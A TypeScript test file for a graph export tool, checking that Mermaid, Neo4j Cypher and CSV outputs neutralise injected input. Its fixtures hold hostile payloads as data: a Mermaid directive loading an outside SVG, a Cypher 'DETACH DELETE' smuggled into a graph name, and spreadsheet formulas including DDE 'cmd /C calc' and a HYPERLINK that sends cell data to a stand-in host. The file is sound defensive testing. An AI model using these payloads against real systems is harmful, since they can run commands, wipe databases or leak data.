import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { exportGraph } from '../../src/export/index.js';
import { neo4jQueries } from '../../src/export/neo4j.js';
import { parseDelimitedTable } from '../../src/import/index.js';
import { hasChromium, launchChromium } from '../export/chromium.js';
import { graphFrom } from '../export/graph-fixtures.js';

const DIRECTIVE = '%%{init: {"themeCSS": ".node rect {fill: url(http://127.0.0.1:9/pwned.svg#p)} .MARK {stroke: blue}"}}%%';
const FORMULAS = ['=HYPERLINK("http://x.test/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', "'=already quoted"];

/** A graph whose text fields carry Mermaid directives, Cypher and spreadsheet formulas. */
function injectionGraph(name = 'plain') {
  return graphFrom(
    {
      sources: [{ id: 'src', kind: 'primary_paper', title: `${DIRECTIVE} title`, authors: FORMULAS[0], year: 2020, doi: '10.1000/fixture' }],
      modules: [{ id: 'm', title: 'M', summary: 'S' }],
      nodes: [
        { id: 'a', label: FORMULAS[0], category: 'small_molecule', description: FORMULAS[1], synonyms: FORMULAS.slice(2), identifiers: ['CHEBI:1'], module: 'm' },
        { id: 'b', label: `b ${DIRECTIVE}`, category: 'protein', description: "'=already quoted", module: 'm' },
      ],
      edges: [{ source: 'a', predicate: 'inhibits', target: 'b', note: FORMULAS[3], evidence: [{ source: 'src', kind: 'animal_model', statement: `${DIRECTIVE}\n%% forged comment\nflowchart TD`, note: '=x' }], module: 'm' }],
    },
    name,
  );
}

async function text(graph: ReturnType<typeof injectionGraph>, format: string): Promise<string> {
  return (await exportGraph(graph, format, {}, {})) as string;
}
async function files(graph: ReturnType<typeof injectionGraph>, format: string): Promise<Record<string, string>> {
  const out = (await exportGraph(graph, format, {}, {})) as { files: { name: string; content: string }[] };
  return Object.fromEntries(out.files.map((f) => [f.name, f.content]));
}

describe('mermaid export: data is never a directive or a comment', () => {
  it('spells no %%{ and starts no line of its own', async () => {
    const out = await text(injectionGraph(), 'mermaid');
    expect(out).not.toContain('%%{');
    expect(out).not.toMatch(/^\s*%% forged comment/m);
    expect(out).not.toMatch(/^\s*flowchart TD/m);
    expect(out.split('\n').filter((l) => /^\s*flowchart/.test(l))).toEqual(['flowchart LR']);
  });

  it.skipIf(!hasChromium)('renders with securityLevel strict without fetching anything or applying data CSS', async () => {
    const browser = await launchChromium();
    try {
      const page = await browser.newPage();
      const requests: string[] = [];
      page.on('request', (r) => void (r.url().startsWith('http') && requests.push(r.url())));
      await page.setContent('<!DOCTYPE html><html><body></body></html>');
      await page.addScriptTag({ content: readFileSync(createRequire(import.meta.url).resolve('mermaid/dist/mermaid.min.js'), 'utf8') });
      const svg = await page.evaluate(async (t) => {
        const m = (window as unknown as { mermaid: any }).mermaid; // eslint-disable-line @typescript-eslint/no-explicit-any
        m.initialize({ startOnLoad: false, securityLevel: 'strict' });
        return (await m.render('g', t)).svg as string;
      }, await text(injectionGraph(), 'mermaid'));
      await page.waitForTimeout(300);
      expect(requests).toEqual([]);
      const styles = [...svg.matchAll(/<style[^>]*>([\s\S]*?)<\/style>/g)].map((m) => m[1]).join('\n');
      expect(styles.length).toBeGreaterThan(0);
      expect(styles).not.toContain("pwned");
      expect(styles).not.toContain('.MARK');
      await page.close();
    } finally {
      await browser.close();
    }
  });
});

describe('neo4j queries: the graph name cannot add or split a statement', () => {
  const statements = (q: string) => q.split('\n').filter((l) => !l.startsWith('//'));

  it('keeps MATCH (n) DETACH DELETE n inside the comment', () => {
    const q = neo4jQueries('imported\nMATCH (n) DETACH DELETE n;\r\n// x');
    expect(q).not.toMatch(/^MATCH \(n\) DETACH DELETE n;/m);
    expect(statements(q)).toEqual(statements(neo4jQueries('plain')));
  });

  it('has the same statements for any name (fast-check)', () => {
    const plain = statements(neo4jQueries('plain'));
    fc.assert(fc.property(fc.string({ unit: fc.constantFrom('\n', '\r', '\u2028', '\u0085', ';', "'", '"', '`', '*/', 'MATCH', ' ', 'x', '\u000b', '\f') }), (name) => {
      expect(statements(neo4jQueries(name))).toEqual(plain);
    }));
  });

  it('does the same through the export (graph name from an imported file)', async () => {
    const q = (await files(injectionGraph('g\nMATCH (n) DETACH DELETE n;'), 'neo4j'))['queries.cypher']!;
    expect(q).not.toMatch(/^MATCH \(n\) DETACH DELETE n;/m);
  });
});

describe('csv and neo4j csv: no cell a spreadsheet would run', () => {
  const DANGEROUS = /^[=+\-@\t\r]/;
  const allCells = (csv: string) => parseDelimitedTable(csv, ',').rows.flatMap((r) => Object.values(r.values));

  it.each(['csv', 'neo4j'])('%s: every cell starting with = + - @ tab or CR is neutralised with a quote', async (format) => {
    const f = await files(injectionGraph(), format);
    const cells = [...allCells(f['nodes.csv']!), ...allCells(f['edges.csv']!)];
    const risky = cells.filter((c) => DANGEROUS.test(c) && !/^[+-]?\d*\.?\d+$/.test(c) && c !== '-' && c !== '+');
    expect(risky).toEqual([]);
    for (const formula of [FORMULAS[0], FORMULAS[1], FORMULAS[3]]) expect(cells).toContain(`'${formula}`);
    expect(cells.some((c) => c.startsWith("'@SUM(1+1)"))).toBe(true); // the synonyms list
    expect(cells).toContain("''=already quoted");
  });

  it('keeps signs and numbers as they are', async () => {
    const f = await files(injectionGraph(), 'csv');
    const edge = parseDelimitedTable(f['edges.csv']!, ',').rows[0]!.values;
    expect(edge).toMatchObject({ sign: '-', strength: expect.stringMatching(/^\d+$/), note: `'${FORMULAS[3]}` });
  });
});
